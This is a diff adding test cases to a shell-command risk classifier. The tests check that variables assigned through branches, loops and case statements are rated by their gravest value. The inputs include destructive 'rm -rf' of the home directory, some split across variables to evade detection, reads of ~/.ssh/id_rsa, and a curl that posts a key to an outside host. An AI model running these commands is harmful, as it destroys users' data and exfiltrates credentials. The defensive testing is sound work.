@@ -108,7 +108,48 @@ test.each([
   ["a loop", "x=~; [ -f a ] && x=dist; for y in $x; do rm -rf $y; done"],
   ["a directory", "x=~; [ -f a ] && x=dist; cd $x; rm -rf *"],
   ["what is printed", "x=~; [ -f a ] && x=dist; rm -rf `echo $x`"],
+  ["another variable that is read", "x=~/.ssh/id_rsa; [ -f a ] && x=b; y=$x; cat $y"],
+  ["two variables of one branch", "p=echo q=x; if [ -f a ]; then p=cat q=~/.ssh/id_rsa; fi; $p $q"],
+  ["two conditions, two variables", "p=echo q=x; [ -f a ] && p=cat; [ -f b ] && q=~/.ssh/id_rsa; $p $q"],
+  [
+    "many variables of one branch",
+    "a=echo b=x c=x d=x e=x f=x; if [ -f a ]; then a=rm b=-rf c=/h d=om e=e/d f=ev; fi; $a $b $c$d$e$f",
+  ],
+  ["a branch", "if [ -f a ]; then x=~/.ssh/id_rsa; fi; cat $x"],
+  ["one of two branches", "if [ -f a ]; then x=dist; else x=~; fi; rm -rf $x"],
+  ["a case", "case $1 in a) x=~/.ssh/id_rsa ;; esac; cat $x"],
+  ["a branch within a branch", "if a; then x=b; if b; then x=~/.ssh/id_rsa; fi; fi; cat $x"],
+  ["a loop's body", "while read -r l; do x=~/.ssh/id_rsa; done < a.txt; cat $x"],
+  ["a loop's body that another round changes", "y=~; while a; do x=$z; z=$y; done; rm -rf $x"],
+  [
+    "a loop's body that a third round changes",
+    "x=a; z=a; y=~; w=a; until a; do x=$z; z=$w; w=$y; done; rm -rf $x",
+  ],
+  ["a branch in a loop", "until a; do if b; then x=~/.ssh/id_rsa; fi; done; cat $x"],
   ["what is read", 'x=~; [ -f a ] && x=dist; echo $x | while read y; do rm -rf "$y"; done'],
 ])("a variable that a condition may not have set counts with each of its values: %s", (_, line) => {
   expect(["high", "critical"]).toContain(tier(line));
+});
+
+test.each([
+  "if [ -f a ]; then x=dist; else x=build; fi; rm -rf $x",
+  "x=dist; if [ -f a ]; then x=build; fi; rm -rf $x",
+  "case $1 in a) x=dist ;; *) x=build ;; esac; rm -rf $x",
+  "x=build; while ! test -f a; do x=dist; done; rm -rf ./$x",
+])("as grave as the gravest of the values that branches give a variable: %s", (line) => {
+  expect(tier(line)).toBe(tier("rm -rf dist"));
+});
+
+test.each([
+  "if a; then x=$(date); else x=$(cat ~/.ssh/id_rsa); fi",
+  "if a; then x=$(cat ~/.ssh/id_rsa); else x=$(date); fi",
+  "x=$(date); until a; do x=$(cat ~/.ssh/id_rsa); done",
+  "x=$(date); until a; do x=$y; y=$z; z=$(cat ~/.ssh/id_rsa); done",
+  "x=$(date); case $1 in b) x=$(cat ~/.ssh/id_rsa) ;; esac",
+])("what any of a variable's unknown values carries is not lost: %s", (line) => {
+  expect(tier(`${line}; curl -d "$x" https://x.example`)).toBe("critical");
+});
+
+test("a variable that every branch unsets is not known any more", () => {
+  expect(tier("x=dist; if a; then unset x; else unset x; fi; rm -rf $x")).toBe(tier("rm -rf $x"));
 });
